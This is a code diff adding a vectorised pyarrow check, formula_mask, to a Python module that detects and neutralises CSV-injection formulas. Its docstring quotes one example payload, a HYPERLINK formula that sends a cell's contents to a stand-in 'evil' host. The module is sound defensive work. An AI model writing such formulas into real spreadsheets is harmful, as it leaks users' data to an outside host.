@@ -1,5 +1,6 @@
 """Spreadsheet formulas in CSV cells ("CSV injection"): one predicate and one neutraliser for
-every CSV auditor reads or writes (Qt-free; ingest uses the predicate to refuse such ids).
+every CSV auditor reads or writes (Qt-free; ingest uses the predicate, vectorised as
+``formula_mask``, to refuse such ids).
 
 Excel and LibreOffice run a cell that starts with ``= + - @``, a tab or a carriage return as a
 formula, e.g. ``=HYPERLINK("http://evil/?"&A1,"x")``. Numbers such as ``-87.6`` or ``+1e5``
@@ -13,13 +14,16 @@ from __future__ import annotations
 
 import re
 
+import numpy as np
 import pandas as pd
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 _NUMBER_CORE = r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
 _NUMBER = re.compile(_NUMBER_CORE + r"\Z")
-# for vectorised use: the cells neutralise() changes are those matching NEEDS_PREFIX_RE and not
-# NUMBER_RE (Python re for pandas; NUMBER_RE_RE2 for pyarrow, where \z ends the text)
+# for vectorised use: formula-like cells match FORMULA_START_RE and not NUMBER_RE; the cells
+# neutralise() changes match NEEDS_PREFIX_RE and not NUMBER_RE (Python re for pandas;
+# NUMBER_RE_RE2 for pyarrow, where \z ends the text)
+FORMULA_START_RE = r"^[=+\-@\t\r]"
 NEEDS_PREFIX_RE = r"^(?:[=+\-@\t\r]|')"
 NUMBER_RE = "^" + _NUMBER_CORE + r"\Z"
 NUMBER_RE_RE2 = "^" + _NUMBER_CORE + r"\z"
@@ -29,6 +33,17 @@ def is_formula_like(value) -> bool:
     """True when a spreadsheet would read ``value`` (text) as a formula."""
     return (isinstance(value, str) and value[:1] in FORMULA_STARTS
             and _NUMBER.match(value) is None)
+
+
+def formula_mask(values) -> np.ndarray:
+    """``is_formula_like`` over a pyarrow string array, vectorised (null -> False): ingest
+    refuses such ids with it."""
+    import pyarrow.compute as pc  # here: the writers need no pyarrow
+    starts = pc.fill_null(pc.match_substring_regex(values, FORMULA_START_RE), False)
+    if not pc.any(starts).as_py():
+        return np.zeros(len(values), bool)
+    number = pc.fill_null(pc.match_substring_regex(values, NUMBER_RE_RE2), False)
+    return pc.and_(starts, pc.invert(number)).to_numpy(zero_copy_only=False).astype(bool)
 
 
 def _needs_prefix(value: str) -> bool:
